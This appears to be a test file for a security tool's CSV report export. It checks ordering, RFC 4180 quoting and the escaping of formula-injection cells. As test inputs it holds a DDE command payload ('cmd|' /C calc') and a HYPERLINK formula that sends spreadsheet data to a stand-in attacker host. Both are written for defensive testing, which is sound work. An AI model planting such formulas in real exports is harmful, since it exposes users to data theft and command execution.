import { test } from "node:test";
import assert from "node:assert/strict";
import { parse } from "csv-parse/sync";
import { CSV_COLUMNS, renderCsv } from "../../src/report/index.js";
import { csvField } from "../../src/report/csv.js";
import { loadFixture } from "./helpers.js";

test("one CSV record per finding, on one line each, open findings first by severity", () => {
  const result = loadFixture("failing");
  const csv = renderCsv(result);
  assert.equal(csv.startsWith("\uFEFFseverity,status,ruleId,"), true);
  const lines = csv.replace(/^\uFEFF/, "").split("\r\n");
  assert.equal(lines.pop(), "", "ends with CRLF");
  assert.equal(lines.length, result.findings.length + 1);
  const records = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
  assert.deepEqual(Object.keys(records[0] ?? {}), [...CSV_COLUMNS]);
  assert.deepEqual(
    records.map((r) => `${r.severity}/${r.status}`),
    [
      "critical/failed",
      "high/failed",
      "high/failed",
      "high/failed",
      "high/failed",
      "medium/failed",
      "medium/failed",
      "low/accepted",
    ],
  );
  const acl = records.find((r) => r.ruleId === "acl-network-service-full-control");
  assert.equal(acl?.checks, "ACL.NETWORK_SERVICE");
  assert.equal(acl?.evidenceCount, "1");
  assert.equal(
    acl?.firstRemediationStep,
    "Grant NETWORK SERVICE (S-1-5-20) Full Control on each folder listed.",
  );
});

test("CSV fields are RFC 4180 quoted and never start a formula", () => {
  assert.equal(csvField("plain"), "plain");
  assert.equal(csvField('say "hi", then go'), '"say ""hi"", then go"');
  assert.equal(csvField('=HYPERLINK("http://x")'), '"\'=HYPERLINK(""http://x"")"');
  assert.equal(csvField("+1"), "'+1");
  assert.equal(csvField("-2+3+cmd|' /C calc'!A0"), "'-2+3+cmd|' /C calc'!A0");
  assert.equal(csvField("@SUM(A1)"), "'@SUM(A1)");
  assert.equal(csvField("\tx"), " x");
  assert.equal(csvField("two\r\nlines"), "two lines");
  assert.equal(csvField(3), "3");
});

test("a finding whose text is a formula is exported as text", () => {
  const result = loadFixture("failing");
  const first = result.findings[0];
  assert.ok(first);
  first.title = '=HYPERLINK("http://evil.example/?"&A1,"open")';
  first.remediation = [{ text: "@cmd|' /C calc'!A0\nsecond line", commands: [] }];
  const records = parse(renderCsv(result), { bom: true, columns: true }) as Record<string, string>[];
  const row = records.find((r) => r.ruleId === first.ruleId);
  assert.equal(row?.title, `'${first.title}`);
  assert.equal(row?.firstRemediationStep, "'@cmd|' /C calc'!A0 second line");
});
